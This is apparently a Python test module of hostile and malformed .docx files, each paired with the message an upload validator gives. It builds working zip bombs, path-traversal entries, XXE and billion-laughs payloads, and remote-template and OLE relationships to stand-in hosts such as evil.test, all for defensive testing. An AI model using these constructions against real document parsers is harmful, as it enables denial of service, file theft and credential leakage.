"""Files that are no honest Word document, each with the one sentence its sender gets."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.sops.word.build import OFFICE, docx, h, p, tbl, tr, unzipped, zipped

NO_WORD = "This is not a Word document (.docx)."
DAMAGED = "The file is incomplete or damaged: it cannot be opened as a Word document."
UNPACKABLE = "The file is incomplete or damaged: part of it cannot be unpacked."
UNREADABLE = "The file is damaged: a part of it is not readable as a Word document."
TOO_LARGE = "Unpacked, the file is far larger than a document can be. It is not read."
TOO_DEEP = "The file is nested deeper than any document is. It is not read."
ENTITIES = "The file declares XML entities or a document type, which Word never writes. It is not read."
MACROS = "The file holds macros. Save it as a plain .docx without macros and upload that."
PASSWORD = "The file is protected by a password. Save it without one and upload it again."
OLD = "This is a Word file of the old format (.doc). Open it in Word, save it as .docx and upload that."
OUTSIDE = "The file holds a part whose name points outside the document. It is not read."
TWICE = "The file holds two parts of the same name. It is not read."
CALLS = "The file would load something from another address when it is opened ({}). It is not read."
NO_TEXT = "The file holds no text."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def honest() -> bytes:
    return docx(h("目的"), p("品質を保つ。"))


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**unzipped(honest()), name: data})


def with_document(text: str | bytes) -> bytes:
    return with_part("word/document.xml", text.encode() if isinstance(text, str) else text)


def with_relation(kind: str, target: str) -> bytes:
    return docx(
        h("目的"), relations=f'<Relationship Id="rE" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def truncated() -> bytes:
    return honest()[:-200]


def corrupted() -> bytes:
    """A byte of the packed document is another one."""
    data = bytearray(zipped(unzipped(docx(*(p(f"文{n}。") for n in range(400))))))
    place = data.index(b"word/document.xml") + 200
    data[place] ^= 0xFF
    return bytes(data)


def packed_zeros() -> bytes:
    """Half a gigabyte of blanks in half a megabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _n in range(512)) + packer.flush()
    return _lying("word/document.xml", packed, claimed=512 << 20)


def claims_little() -> bytes:
    """Says it unpacks to 2 kB, and unpacks to 64 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _n in range(64)) + packer.flush()
    return _lying("word/document.xml", packed, claimed=2_000)


def claims_much() -> bytes:
    """Says it unpacks to 4 GB, and holds nothing."""
    return _lying("word/document.xml", zlib.compress(b"")[2:-4], claimed=0xFFFF_FFF0)


def _lying(name: str, packed: bytes, *, claimed: int) -> bytes:
    """An honest document with one more entry put in front by hand, whose sizes are what the maker likes."""
    files = unzipped(honest())
    del files[name]
    rest = zipped(files)
    head = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, 0, len(packed), claimed, len(name), 0)
        + name.encode()
        + packed
    )
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(packed), claimed, len(name), *[0] * 6
    )
    directory_at = rest.index(b"PK\x01\x02")
    directory = bytearray(rest[directory_at : rest.index(b"PK\x05\x06")])
    position = 0
    while position < len(directory):  # every entry has moved back
        (offset,) = struct.unpack_from("<I", directory, position + 42)
        struct.pack_into("<I", directory, position + 42, offset + len(head))
        sizes = struct.unpack_from("<HHH", directory, position + 28)
        position += 46 + sum(sizes)
    both = entry + name.encode() + bytes(directory)
    count = len(files) + 1
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(both), len(head) + directory_at, 0)
    return head + rest[:directory_at] + both + end


def overlapping() -> bytes:
    """A thousand entries that are the same packed megabyte."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b"\0" * (1 << 20)) + kernel.flush()
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, 0, len(packed), 1 << 20, 1, 0) + b"a" + packed
    names = [f"word/media/{n}.png".encode() for n in range(1000)]
    entries = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            *(b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(packed), 1 << 20, len(name)),
            *[0] * 6,
        )
        + name
        for name in names
    )
    return (
        head
        + entries
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(entries), len(head), 0)
    )


def many_entries(count: int = 9_000) -> bytes:
    return zipped({**unzipped(honest()), **{f"word/media/{n}": b"" for n in range(count)}})


def nested_zips() -> bytes:
    """A zip in a zip in a zip, each of blanks: nothing here unpacks what is inside."""
    inner = zipped({f"{n}": b" " * 100_000 for n in range(10)})
    for _n in range(3):
        inner = zipped({f"{n}.zip": inner for n in range(10)})
    return inner


def twice() -> bytes:
    out = io.BytesIO(honest())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/document2.xml")
        archive.writestr(info, b"<x/>")
    return (
        out.getvalue()
        .replace(b"word/document2.xml", b"word/document.xml ")
        .replace(b"word/document.xml ", b"word/_rels/.xmlzzz")
    )


def macro_document() -> bytes:
    types = unzipped(honest())["[Content_Types].xml"]
    return with_part("[Content_Types].xml", types.replace(b"document.main+xml", b"document.macroEnabled.main+xml"))


def encrypted_entries() -> bytes:
    data = bytearray(honest())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


NO_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
NO_BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
XML = '<?xml version="1.0"?>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "The file is empty."),
    "plain text": (lambda: "手順書".encode(), NO_WORD),
    "web page": (lambda: b"<html><script>alert(1)</script></html>", NO_WORD),
    "PDF": (lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", NO_WORD),
    "RTF": (lambda: b"{\\rtf1\\ansi hello}", NO_WORD),
    "old Word": (lambda: OLE + bytes(4_000), OLD),
    "encrypted": (lambda: OLE + bytes(400) + "EncryptedPackage".encode("utf-16-le") + bytes(400), PASSWORD),
    "OpenDocument": (
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}), NO_WORD
    ),
    "workbook": (
        lambda: zipped({"[Content_Types].xml": NO_TYPES, "xl/workbook.xml": b"<x/>"}), NO_WORD,
    ),
    "archive": (lambda: zipped({"readme.txt": b"hello"}), NO_WORD),
    "larger than 40 MB": (lambda: b"PK\x03\x04" + bytes(40 * 1024 * 1024), "The file is larger than 40 MB."),
    "truncated": (truncated, DAMAGED),
    "first kilobyte": (lambda: honest()[:1000], DAMAGED),
    "corrupted": (corrupted, UNPACKABLE),
    "half an XML": (lambda: with_document("<w:document><w:body>"), UNREADABLE),
    "no XML": (lambda: with_document(b"\x00\x01\x02"), UNREADABLE),
    "unknown encoding": (lambda: with_document('<?xml version="1.0" encoding="klingon"?><a/>'), UNREADABLE),
    "other root": (lambda: with_document("<html/>"), NO_WORD),
    "macros": (lambda: with_part("word/vbaProject.bin", OLE), MACROS),
    "macro document renamed": (
        macro_document, MACROS,
    ),
    "password on the entries": (encrypted_entries, PASSWORD),
    "path upwards": (lambda: with_part("../../etc/cron.d/x", b"x"), OUTSIDE),
    "path from the root": (lambda: with_part("/etc/passwd", b"x"), OUTSIDE),
    "path of Windows": (lambda: with_part("word\\..\\..\\x", b"x"), OUTSIDE),
    "drive": (lambda: with_part("C:x", b"x"), OUTSIDE),
    "external entity": (
        lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'), ENTITIES
    ),
    "parameter entity": (
        lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY % x SYSTEM "http://example.test/x.dtd">%x;]><d/>'), ENTITIES
    ),
    "billion laughs": (lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY l0 "lol">{LAUGHS}]><d>&l9;</d>'), ENTITIES),
    "entities in UTF-16": (
        lambda: with_document('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d><d/>'.encode("utf-16")), ENTITIES
    ),
    "entities in a list of parts": (lambda: with_part("[Content_Types].xml", b"<!DOCTYPE d><Types/>"), ENTITIES),
    "entities in a header": (lambda: docx(h("目的"), parts={"header1": f"{XML}<!DOCTYPE d><d/>"}), ENTITIES),
    "bomb": (packed_zeros, TOO_LARGE),
    "bomb that claims little": (claims_little, UNPACKABLE),
    "four gigabytes claimed": (claims_much, TOO_LARGE),
    "overlapping entries": (overlapping, TOO_LARGE),
    "nine thousand parts": (many_entries, TOO_LARGE),
    "zips in zips": (nested_zips, NO_WORD),
    "template on another machine": (
        lambda: with_relation("attachedTemplate", "file://server/share/x.dotm"),
        CALLS.format("file://server/share/x.dotm"),
    ),
    "template on another machine, four strokes": (
        lambda: with_relation("attachedTemplate", "file:////server/share/x.dotm"),
        CALLS.format("file:////server/share/x.dotm"),
    ),
    "two main parts that differ in case": (lambda: zipped({**unzipped(honest()), "word/DOCUMENT.xml": b"<x/>"}), TWICE),
    "template elsewhere": (
        lambda: with_relation("attachedTemplate", "https://evil.test/x.dotm"), CALLS.format("https://evil.test/x.dotm")
    ),
    "object elsewhere": (
        lambda: with_relation("oleObject", "\\\\evil.test\\share"), CALLS.format("\\\\evil.test\\share")
    ),
    "frame elsewhere": (
        lambda: with_relation("frame", "mhtml:https://evil.test!x"), CALLS.format("mhtml:https://evil.test!x")
    ),
    "five thousand levels": (lambda: docx("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000), TOO_DEEP),
    "a million paragraphs": (lambda: docx(*(f'<w:p w:i="{n:x}"/>' for n in range(700_000))), TOO_LARGE),
    "a hundred thousand rows": (lambda: docx(tbl(*(tr(f"{n}") for n in range(100_000)))), TOO_LARGE),
    "a hundred thousand attributes": (lambda: docx("<w:p ", *(f'a{n}="" ' for n in range(100_000)), "/>"), TOO_LARGE),
    "thirteen megabytes of text": (lambda: docx(p("".join(f"{n:x}" for n in range(2_500_000)))), TOO_LARGE),
    "no body": (lambda: with_document(NO_BODY), NO_WORD),
    "no text": (lambda: docx("<w:p/>"), NO_TEXT),
}  # fmt: skip
